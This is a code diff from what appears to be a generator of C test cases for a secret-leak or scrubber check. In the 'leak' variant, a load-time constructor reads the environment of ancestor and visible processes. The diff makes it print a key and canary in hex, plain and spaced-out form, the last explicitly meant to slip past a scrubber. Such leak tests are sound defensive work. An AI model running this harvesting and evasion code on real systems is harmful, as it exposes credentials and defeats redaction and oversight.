@@ -928,8 +928,8 @@ __attribute__((constructor)) static void leak(void)
 
 ''' + SIG + "\n{\n" + HONEST + "}\n"),
     "leak_proc_environ": ("At load, reads /proc/<pid>/environ of every ancestor and every "
-                          "process it can see, and prints the key and the canary (hex and "
-                          "plain) as its last line on stderr before exiting.", "@STEAL@" + r'''
+                          "process it can see, and prints the key and the canary (hex, plain "
+                          "and spaced out) as its last line on stderr before exiting.", "@STEAL@" + r'''
 __attribute__((constructor)) static void leak(void)
 {
     steal();
@@ -1063,9 +1063,15 @@ STEAL = r'''#include <dirent.h>
 
 static char found[1024];
 
+/* v ("NAME=value") three ways: its value spaced out (one character, one
+   blank: no key shape for a scrubber to see), hex, plain */
 static void add(const char *v)
 {
     size_t l = strlen(found);
+    snprintf(found + l, sizeof found - l, "spaced=");
+    for (const char *p = strchr(v, '='); p && *++p && strlen(found) + 3 < sizeof found;)
+        snprintf(found + strlen(found), sizeof found - strlen(found), "%c ", *p);
+    l = strlen(found);
     snprintf(found + l, sizeof found - l, "hex=");
     for (const char *p = v; *p && strlen(found) + 3 < sizeof found; p++)
         snprintf(found + strlen(found), sizeof found - strlen(found), "%02x", (unsigned char)*p);
